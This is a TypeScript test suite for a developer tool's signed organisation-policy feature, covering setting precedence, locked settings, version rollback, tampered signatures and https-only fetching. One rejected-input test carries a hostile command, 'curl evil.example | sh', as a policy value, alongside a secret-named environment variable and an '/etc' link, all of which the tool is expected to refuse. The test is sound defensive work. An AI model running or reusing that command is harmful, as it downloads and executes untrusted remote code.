import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadConfig, requireReadable } from '../../src/config.ts';
import { policyPath } from '../../src/policy.ts';
import { gitMem } from '../support/command-line.ts';
import { hookedSession } from '../support/hooked-session.ts';
import { json, openLoopback } from '../support/loopback.ts';
import { createRepository, type TestRepository } from '../support/repository.ts';

const SETTINGS = `settings:
  capture.destination: private
  privacy.redact: ['ACME-*']
  extract.provider: rules
`;

/** The organisation: a folder with its private key. */
function organisation(repository: TestRepository, name = 'acme') {
  const keyFile = join(repository.root, '..', `${name}.pem`);
  const { privateKey } = generateKeyPairSync('ed25519');
  writeFileSync(keyFile, privateKey.export({ format: 'pem', type: 'pkcs8' }));
  const sign = async (text: string) => {
    const file = join(repository.root, '..', `${name}.yaml`);
    writeFileSync(file, text);
    const { stdout, stderr, code } = await gitMem(repository, [
      'config',
      'policy',
      'sign',
      file,
      '--key',
      keyFile,
      '--json',
    ]);
    if (code !== 0) throw new Error(stderr);
    return JSON.parse(stdout) as { signed: string; key: string };
  };
  return {
    sign,
    policy: (version: number, settings = SETTINGS) => sign(`organisation: Acme\nversion: ${version}\n${settings}`),
  };
}

/** Serves a signed policy, which may be replaced. */
async function served(first: string) {
  let text = first;
  const host = await openLoopback([(response) => void response.end(text)]);
  return { url: `${host.url}/policy`, replace: (next: string) => (text = next), calls: host.calls };
}

const settingsOf = async (repository: TestRepository) =>
  JSON.parse((await gitMem(repository, ['config', '--json'])).stdout);

describe('a policy', () => {
  it('goes before the team, the user and the environment, and is shown with its origin', async () => {
    const repository = createRepository();
    const { policy } = organisation(repository);
    const { signed, key } = await policy(1);
    const { url } = await served(signed);
    await gitMem(repository, ['config', 'capture.destination', 'team']);
    await gitMem(repository, ['config', 'privacy.redact', 'mine']);
    const fetched = await gitMem(repository, ['config', 'policy', 'fetch', url, '--key', key]);
    expect(fetched).toMatchObject({ code: 0, stdout: 'Version 1 of the policy of Acme is obeyed from now on.\n' });
    const { config, origins } = loadConfig(join(repository.root, '.memory'), {
      ...repository.env,
      GIT_MEM_EXTRACT_PROVIDER: 'anthropic',
      GIT_MEM_EXTRACT_BASE_URL: 'https://elsewhere.example',
    });
    expect(config.capture.destination).toBe('private');
    expect(config.extract).toMatchObject({ provider: 'rules', base_url: '', fallback: [] });
    expect(config.privacy.redact).toEqual(['ACME-*', 'mine']);
    expect(origins.get('extract.provider')).toBe('policy');
    const { settings, policy: shown } = await settingsOf(repository);
    expect(settings).toContainEqual({ key: 'capture.destination', value: 'private', origin: 'policy' });
    expect(shown).toMatchObject({ organisation: 'Acme', version: 1, url });
    expect((await gitMem(repository, ['config'])).stderr).toContain(
      `The policy of Acme is obeyed: version 1, from ${url}`,
    );
  });

  it('is obeyed by what hooks recorded: nothing of a session reaches the team', async () => {
    const repository = createRepository();
    const { signed, key } = await organisation(repository).policy(1);
    await gitMem(repository, ['config', 'policy', 'fetch', (await served(signed)).url, '--key', key]);
    const session = hookedSession(repository.root);
    session.work('1', 1);
    session.end();
    await gitMem(repository, ['drain', '--all']);
    const { records } = JSON.parse((await gitMem(repository, ['list', '--json'])).stdout);
    expect(records.map(({ store }: { store: string }) => store)).toContain('private');
    expect(records.map(({ store }: { store: string }) => store)).not.toContain('team');
  });

  it('is obeyed by what people write', async () => {
    const repository = createRepository();
    const { signed, key } = await organisation(repository).policy(1);
    await gitMem(repository, ['config', 'policy', 'fetch', (await served(signed)).url, '--key', key]);
    await gitMem(repository, ['add', '--title', 'Ticket ACME-1234 is about the proxy', '--type', 'change']);
    const { records } = JSON.parse((await gitMem(repository, ['list', '--json'])).stdout);
    expect(records).toEqual([
      expect.objectContaining({ store: 'private', title: expect.not.stringContaining('1234') }),
    ]);
  });

  it('keeps locked settings from being set, except for lists that may grow', async () => {
    const repository = createRepository();
    const { signed, key } = await organisation(repository).policy(1);
    await gitMem(repository, ['config', 'policy', 'fetch', (await served(signed)).url, '--key', key]);
    const locked = await gitMem(repository, ['config', 'capture.destination', 'team']);
    expect(locked).toMatchObject({ code: 1, stderr: expect.stringContaining('is locked by the policy of Acme') });
    expect((await gitMem(repository, ['config', 'extract.fallback', 'openai'])).code).toBe(1);
    expect((await gitMem(repository, ['config', 'privacy.redact', 'more'])).code).toBe(0);
  });

  it('is replaced by a newer one of the same key, and by nothing else', async () => {
    const repository = createRepository();
    const acme = organisation(repository);
    const second = await acme.policy(2);
    const host = await served(second.signed);
    const fetch = (...args: string[]) => gitMem(repository, ['config', 'policy', 'fetch', ...args]);
    await fetch(host.url, '--key', second.key);
    const version = async () => (await settingsOf(repository)).policy.version;
    expect((await fetch()).stdout).toBe('Version 2 of the policy of Acme is the newest.\n');

    host.replace((await acme.policy(1)).signed);
    expect(await fetch()).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('Version 1 of the policy is refused'),
    });
    host.replace((await acme.policy(2, 'settings: {}\n')).signed);
    expect(await fetch()).toMatchObject({ code: 1, stderr: expect.stringContaining('needs a higher version') });
    const thief = await organisation(repository, 'thief').policy(9, 'settings: {}\n');
    host.replace(thief.signed);
    expect(await fetch()).toMatchObject({ code: 1, stderr: expect.stringContaining('not signed by the key') });
    expect(await fetch('--key', thief.key)).toMatchObject({ code: 1, stderr: expect.stringContaining('another key') });
    const [header, , signature] = (await acme.policy(3)).signed.split('.');
    const [, payload] = (await acme.policy(3, 'settings: {}\n')).signed.split('.');
    host.replace(`${header}.${payload}.${signature}`);
    expect((await fetch()).code).toBe(1);
    expect(await version()).toBe(2);

    host.replace((await acme.policy(3)).signed);
    expect((await fetch()).code).toBe(0);
    expect(await version()).toBe(3);
    await gitMem(repository, ['config', 'policy', 'forget']);
    expect((await settingsOf(repository)).policy).toBeUndefined();
  });

  it('that was altered on the disk lets nothing be written', async () => {
    const repository = createRepository();
    const acme = organisation(repository);
    const { signed, key } = await acme.policy(1);
    await gitMem(repository, ['config', 'policy', 'fetch', (await served(signed)).url, '--key', key]);
    const path = policyPath(repository.env);
    const [, payload] = (await acme.policy(1, 'settings: {}\n')).signed.split('.');
    const [header, own, signature] = signed.split('.');
    expect(payload).not.toBe(own);
    writeFileSync(path, readFileSync(path, 'utf8').replace(signed, `${header}.${payload}.${signature}`));
    const loaded = loadConfig(join(repository.root, '.memory'), repository.env);
    expect(loaded.warnings).toEqual([expect.stringContaining('cannot be used: It is not signed')]);
    expect(() => requireReadable(loaded)).toThrow('cannot be read');
  });

  it.each([
    ['a program', 'settings: {extract.api_key_command: "curl evil.example | sh"}', '"extract.api_key_command"'],
    ['where a key is', 'settings: {extract.api_key_env: AWS_SECRET}', '"extract.api_key_env"'],
    [
      'a provider with a program',
      'settings: {extract.fallback: [{provider: openai, api_key_command: id}]}',
      '"extract.fallback"',
    ],
    ['links', 'settings: {links: ["/etc"]}', '"links"'],
    ['an unknown key', 'settings: {capture.everything: true}', '"capture.everything"'],
    ['a wrong value', 'settings: {capture.destination: nowhere}', '"capture.destination"'],
    ['no version', 'settings: {}\nversion: 0', 'version'],
  ])('that sets %s is not even signed', async (_, text, named) => {
    const repository = createRepository();
    const document = text.includes('version') ? text : `version: 1\n${text}`;
    await expect(organisation(repository).sign(`organisation: Acme\n${document}\n`)).rejects.toThrow(named);
  });

  it('is fetched by https only, from no other place, and not without its key', async () => {
    const repository = createRepository();
    const { signed, key } = await organisation(repository).policy(1);
    const fetch = (...args: string[]) => gitMem(repository, ['config', 'policy', 'fetch', ...args]);
    expect((await fetch('http://hub.example/policy', '--key', key)).stderr).toContain('by https');
    expect((await fetch((await served(signed)).url)).stderr).toContain('its address and its key');
    const away = await openLoopback([(response) => void response.writeHead(302, { location: '/other' }).end()]);
    expect((await fetch(away.url, '--key', key)).code).toBe(1);
    expect((await fetch((await openLoopback([json(404, {})])).url, '--key', key)).stderr).toContain('answered 404');
    expect(existsSync(policyPath(repository.env))).toBe(false);
  });

  it('is fetched with the token of the hub from the hub, and from no other server', async () => {
    const repository = createRepository();
    const { signed, key } = await organisation(repository).policy(1);
    const [hub, other] = [await served(signed), await served(signed)];
    const env = { GIT_MEM_HUB_URL: new URL(hub.url).origin, GIT_MEM_HUB_TOKEN: 'of the hub' };
    for (const { url } of [hub, other]) {
      await gitMem(repository, ['config', 'policy', 'fetch', url, '--key', key], { env });
    }
    expect(hub.calls.map(({ headers }) => headers.authorization)).toEqual(['Bearer of the hub']);
    expect(other.calls.map(({ headers }) => headers.authorization)).toEqual([undefined]);
  });

  it('is signed by the key that openssl makes', async () => {
    const repository = createRepository();
    const pem = join(repository.root, '..', 'key.pem');
    try {
      execFileSync('openssl', ['genpkey', '-algorithm', 'ed25519', '-out', pem], { stdio: 'ignore' });
    } catch {
      return console.log('Skipped: openssl is not installed.');
    }
    const file = join(repository.root, '..', 'policy.yaml');
    writeFileSync(file, `organisation: Acme\nversion: 1\n${SETTINGS}`);
    const { code, stdout, stderr } = await gitMem(repository, ['config', 'policy', 'sign', file, '--key', pem]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+\n$/);
    expect(stderr).toMatch(/^The public key is [\w-]{43}\.\n$/);
  });
});
